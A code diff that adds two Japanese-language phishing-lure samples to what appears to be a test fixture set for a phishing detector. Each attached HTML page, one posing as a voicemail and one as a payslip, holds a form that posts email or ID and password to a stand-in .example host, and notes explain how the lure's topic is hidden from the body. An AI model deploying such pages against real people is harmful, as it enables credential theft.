@@ -1964,4 +1964,32 @@ lure("lure-113-m365-expiry-digit.eml", [T, L, C],
 
      Microsoft 365 チーム
      """),
+lure("lure-114-page-title-voicemail.eml", [T, C],
+     ("PBX Notification", "pbx@office-phone-notify.example"), [SATO],
+     "ご確認ください",
+     charset="iso-2022-jp",
+     note="the topic is only in the attached page's title and heading (a voicemail); the page asks for a password",
+     attach=[Att("message_4471.html", "html", "text/html",
+                 page="<html><head><title>Voicemail message</title></head><body>"
+                      "<h1>新しい音声メッセージ（0:42）</h1>"
+                      '<form method="post" action="https://pbx-voice-play.example/l">'
+                      'メールアドレス <input name="m"> パスワード <input type="password" name="p">'
+                      "</form></body></html>\n")],
+     text="""
+     添付ファイルをご確認ください。
+     """),
+
+lure("lure-115-page-name-kyuyo.eml", [T, C],
+     ("総務部", "soumu-dept@office-hr-notify.example"), [YAMAMOTO],
+     "ご確認ください",
+     charset="iso-2022-jp",
+     note="the topic is only in the attached page's file name (給与明細); the page asks for a password",
+     attach=[Att("給与明細_2026年12月.html", "html", "text/html", style="2047", charset="iso-2022-jp",
+                 page="<html><head><title>Document</title></head><body>"
+                      '<form method="post" action="https://hr-doc-view.example/l">'
+                      'ID <input name="u"> Password <input type="password" name="p">'
+                      "</form></body></html>\n")],
+     text="""
+     添付ファイルをご確認ください。
+     """),
 ]
